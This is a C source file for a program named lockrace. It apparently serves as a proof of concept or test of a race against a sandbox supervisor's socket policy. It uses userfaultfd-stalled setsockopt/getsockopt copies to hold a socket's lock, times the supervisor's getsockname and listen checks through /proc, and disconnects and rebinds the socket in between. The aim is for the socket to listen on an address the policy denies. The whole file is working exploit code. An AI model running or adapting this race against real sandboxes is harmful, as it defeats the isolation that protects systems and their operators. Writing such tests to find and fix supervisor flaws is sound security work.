/* SPDX-License-Identifier: MIT */
/*
 * Reconnect a socket whose lock is held: lockrace ATTACK PORT TRIES
 *
 * A copy to or from a page that is missing, and whose faults a userfaultfd
 * takes, holds the lock of a socket for as long as the attacker likes; whoever
 * wants the lock meanwhile waits in the order of arrival.
 *
 * tcp, mptcp: the socket is on PORT of 0.0.0.0, connected through 127.0.0.1,
 *	and so calls itself that. While the lock is held, the supervisor comes to
 *	read its name, and a disconnect behind it; the lock is held again until
 *	the supervisor comes to listen, and once more as soon as it has listened,
 *	so that it can't look what it has opened. Prints the tries, the wins (the
 *	socket listens, and is left open as long as the lock is held), how many of
 *	those were reached by another address, how many calls succeeded or failed.
 * broadcast: as tcp, but the socket is bound to PORT of a broadcast address, and
 *	a connection that was refused has taken it to 127.0.0.1.
 * two: the socket is on PORT of 127.0.0.1; one thread listens while the lock is
 *	held, another binds. Prints the result of each, or that it waits.
 *
 * Threads that must have the lock next run at once (SCHED_FIFO), and the test
 * keeps everything on one CPU: the supervisor can't come first. Where that is
 * refused it is a race.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGE 4096ul
enum { PROTOCOL_MPTCP = 262, LEVEL_MPTCP = 284, MPTCP_INFO_OF_TCP = 2 };

/* One that holds the lock: a page that is there, and one that is not. */
struct holder {
	char *pages;
	int faulted;
};

enum { FIRST, SECOND, THIRD, HOLDERS };

struct task {
	pthread_t thread;
	_Atomic int tid, finished;
	int result;
	void (*run)(struct task *task);
	struct holder *holder;
};

static int protocol, port, fd, server, fault_fd, broadcast;
static struct sockaddr_in server_address;
static struct holder holders[HOLDERS];

static void need(int result, const char *step)
{
	if (result >= 0)
		return;
	printf("%s: %s\n", step, strerrorname_np(errno));
	fflush(stdout);
	_exit(3);
}

static struct sockaddr_in place(uint32_t host, int number)
{
	struct sockaddr_in address = {.sin_family = AF_INET};

	address.sin_addr.s_addr = htonl(host);
	address.sin_port = htons((uint16_t)number);
	return address;
}

/* ---- who waits for the lock ---- */

/* What the kernel says of a thread, as text. */
static const char *look(const char *process, const char *tid, const char *what,
			char *text, size_t size)
{
	char path[320];
	ssize_t length;
	int file;

	snprintf(path, sizeof(path), "/proc/%s/task/%s/%s", process, tid, what);
	file = open(path, O_RDONLY | O_CLOEXEC);
	length = file < 0 ? 0 : read(file, text, size - 1);
	if (file >= 0)
		close(file);
	text[length > 0 ? length : 0] = 0;
	return text;
}

/* Whether a thread is blocked in a call; not that it is on its way. */
static int is_in(const char *process, const char *tid, long number)
{
	char text[512];
	const char *state;

	look(process, tid, "syscall", text, sizeof(text));
	if (text[0] < '0' || text[0] > '9' || atol(text) != number)
		return 0;
	state = strrchr(look(process, tid, "stat", text, sizeof(text)), ')');
	return state && strncmp(state, ") R", 3);
}

/* How many threads of the supervisor are blocked in a call. */
static int supervisors_in(long number)
{
	char process[16], path[48];
	struct dirent *entry;
	int found = 0;
	DIR *tasks;

	snprintf(process, sizeof(process), "%d", getppid());
	snprintf(path, sizeof(path), "/proc/%s/task", process);
	tasks = opendir(path);
	need(tasks ? 0 : -1, path);
	while ((entry = readdir(tasks)))
		found += entry->d_name[0] != '.' &&
			 is_in(process, entry->d_name, number);
	closedir(tasks);
	return found;
}

static int waits_in(struct task *task, long number)
{
	char tid[16];

	snprintf(tid, sizeof(tid), "%d", task->tid);
	return task->tid && is_in("self", tid, number);
}

/* ---- the threads ---- */

static void *begin(void *argument)
{
	const struct sched_param soon = {.sched_priority = 1};
	struct task *task = argument;

	if (task->holder || task->result)
		pthread_setschedparam(pthread_self(), SCHED_FIFO, &soon);
	task->tid = (int)syscall(SYS_gettid);
	task->run(task);
	task->finished = 1;
	return NULL;
}

static void start(struct task *task)
{
	need(-pthread_create(&task->thread, NULL, begin, task), "thread");
}

static void hold(struct task *task)
{
	char *missing = task->holder->pages + PAGE;

	if (protocol == PROTOCOL_MPTCP) {
		/* The head of what it asks for is there, the rest is not. */
		const unsigned int head[4] = {16, 0, 0, 64};
		socklen_t length = 80;

		memcpy(missing - 16, head, 16);
		getsockopt(fd, LEVEL_MPTCP, MPTCP_INFO_OF_TCP, missing - 16, &length);
	} else {
		setsockopt(fd, IPPROTO_IP, IP_OPTIONS, missing, 40);
	}
}

static void call_listen(struct task *task)
{
	task->result = listen(fd, 8) < 0 ? errno : 0;
}

static void call_bind(struct task *task)
{
	struct sockaddr_in address = place(INADDR_ANY, port);

	task->result = bind(fd, (void *)&address, sizeof(address)) < 0 ? errno
								       : 0;
}

static void disconnect(struct task *task)
{
	const struct sockaddr none = {.sa_family = AF_UNSPEC};

	task->result = connect(fd, &none, sizeof(none));
}

/* ---- the pages ---- */

static int holds(struct holder *holder)
{
	struct uffd_msg message;

	while (read(fault_fd, &message, sizeof(message)) == sizeof(message)) {
		const unsigned long at = message.arg.pagefault.address;

		for (int i = 0; i < HOLDERS; i++)
			if ((at & ~(PAGE - 1)) ==
			    (unsigned long)holders[i].pages + PAGE)
				holders[i].faulted = 1;
	}
	return holder->faulted;
}

static void let_go(struct holder *holder)
{
	struct uffdio_zeropage zero = {
		.range = {(unsigned long)holder->pages + PAGE, PAGE}};

	ioctl(fault_fd, UFFDIO_ZEROPAGE, &zero);
}

static void make_pages(void)
{
	struct uffdio_api api = {.api = UFFD_API};

	fault_fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	need(fault_fd, "userfaultfd");
	need(ioctl(fault_fd, UFFDIO_API, &api), "userfaultfd");
	for (int i = 0; i < HOLDERS; i++) {
		struct uffdio_register range = {
			.mode = UFFDIO_REGISTER_MODE_MISSING};

		holders[i].pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
					MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		range.range.start = (unsigned long)holders[i].pages + PAGE;
		range.range.len = PAGE;
		need(ioctl(fault_fd, UFFDIO_REGISTER, &range), "register");
	}
}

static void forget_pages(void)
{
	for (int i = 0; i < HOLDERS; i++) {
		madvise(holders[i].pages + PAGE, PAGE, MADV_DONTNEED);
		holders[i].faulted = 0;
	}
}

/* ---- the attack ---- */

static void start_server(void)
{
	socklen_t length = sizeof(server_address);

	server_address = place(INADDR_LOOPBACK, 0);
	server = socket(AF_INET, SOCK_STREAM, protocol);
	need(server, "socket");
	need(bind(server, (void *)&server_address, length), "bind");
	need(listen(server, 64), "listen");
	need(getsockname(server, (void *)&server_address, &length), "name");
}

static void make_socket(uint32_t host)
{
	struct sockaddr_in address = place(host, port);
	const int on = 1;

	fd = socket(AF_INET, SOCK_STREAM, protocol);
	need(fd, "socket");
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	need(bind(fd, (void *)&address, sizeof(address)), "bind");
}

/* The end of the last connection may still be under way. */
static void make_connected(void)
{
	struct sockaddr_in nobody = place(INADDR_LOOPBACK, 1);
	int failed;

	if (broadcast) {
		make_socket(0x7fffffff);
		connect(fd, (void *)&nobody, sizeof(nobody));
		return;
	}
	for (int i = 0; i < 1000; i++) {
		make_socket(INADDR_ANY);
		failed = connect(fd, (void *)&server_address,
				 sizeof(server_address));
		if (!failed) {
			close(accept(server, NULL, NULL));
			return;
		}
		close(fd);
	}
	need(failed, "connect");
}

static int listens(void)
{
	int value = 0;
	socklen_t length = sizeof(value);

	getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &value, &length);
	return value;
}

/* Whether the port answers at an address that was not the socket's name. */
static int answers(void)
{
	struct sockaddr_in address =
		place(INADDR_LOOPBACK + (broadcast ? 0 : 1), port);
	int client = socket(AF_INET, SOCK_STREAM, 0);
	int result = connect(client, (void *)&address, sizeof(address));

	close(client);
	return result == 0;
}

static void finish(struct task *task)
{
	pthread_join(task->thread, NULL);
}

/* Returns whether it listens where the policy denies it. */
static int attempt(int *ret_good, int *ret_reached)
{
	struct task caller = {.run = call_listen}, cut = {.run = disconnect};
	struct task hold_on[HOLDERS] = {0};
	const long locks = protocol == PROTOCOL_MPTCP ? SYS_getsockopt : SYS_setsockopt;
	int won, third = 0;

	for (int i = 0; i < HOLDERS; i++)
		hold_on[i] = (struct task){.run = hold, .holder = &holders[i]};
	cut.result = 1; /* in a hurry */
	make_connected();

	start(&hold_on[FIRST]);
	while (!holds(&holders[FIRST]))
		sched_yield();
	start(&caller);
	while (!caller.finished && !supervisors_in(SYS_getsockname))
		sched_yield();
	start(&cut);
	while (!cut.finished && !waits_in(&cut, SYS_connect))
		sched_yield();
	start(&hold_on[SECOND]);
	while (!waits_in(&hold_on[SECOND], locks) && !hold_on[SECOND].finished)
		sched_yield();
	let_go(&holders[FIRST]);
	/* Should it have to wait before or after its listen, that was it. */
	while (!caller.finished && !supervisors_in(SYS_listen) &&
	       !(holds(&holders[SECOND]) && (supervisors_in(SYS_getsockname) ||
					     supervisors_in(SYS_shutdown))))
		sched_yield();
	won = listens();
	if (!won && supervisors_in(SYS_listen)) {
		third = 1;
		start(&hold_on[THIRD]);
		while (!waits_in(&hold_on[THIRD], locks) &&
		       !hold_on[THIRD].finished)
			sched_yield();
		let_go(&holders[SECOND]);
		while (!caller.finished && !holds(&holders[THIRD]) &&
		       !hold_on[THIRD].finished)
			sched_yield();
		won = listens();
	}
	*ret_reached += won && answers();
	/* Whoever still comes to hold it finds the page. */
	for (int i = 0; i < HOLDERS; i++)
		let_go(&holders[i]);
	finish(&caller);
	finish(&cut);
	for (int i = 0; i < HOLDERS - !third; i++)
		finish(&hold_on[i]);
	*ret_good += caller.result == 0;
	won |= listens(); /* it was left open */
	close(fd);
	forget_pages();
	return won;
}

static const char *name_of(const struct task *task)
{
	return !task->finished ? "waits"
	       : task->result  ? strerrorname_np(task->result)
			       : "0";
}

static void two_rounds(void)
{
	struct task first = {.run = call_listen}, second = {.run = call_bind};
	struct task holder = {.run = hold, .holder = &holders[FIRST]};

	make_socket(INADDR_LOOPBACK);
	start(&holder);
	while (!holds(&holders[FIRST]))
		sched_yield();
	start(&first);
	while (!first.finished && !supervisors_in(SYS_getsockname))
		sched_yield();
	start(&second);
	while (!second.finished && supervisors_in(SYS_getsockname) < 2)
		sched_yield();
	printf("bind: %s\nlisten: %s\n", name_of(&second), name_of(&first));
	let_go(&holders[FIRST]);
	finish(&holder);
	finish(&first);
	finish(&second);
	printf("then: %s\n", name_of(&first));
}

int main(int argc, char **argv)
{
	int wins = 0, good = 0, reached = 0, most;

	if (argc < 4)
		return 2;
	protocol = strcmp(argv[1], "mptcp") ? IPPROTO_TCP : PROTOCOL_MPTCP;
	port = atoi(argv[2]);
	most = atoi(argv[3]);
	broadcast = !strcmp(argv[1], "broadcast");
	make_pages();
	if (!strcmp(argv[1], "two")) {
		two_rounds();
		return 0;
	}
	if (!broadcast)
		start_server();
	for (int i = 0; i < most; i++)
		wins += attempt(&good, &reached);
	printf("tries: %d\nwins: %d\nreached: %d\ngood: %d\nbad: %d\n", most,
	       wins, reached, good, most - good);
	return 0;
}
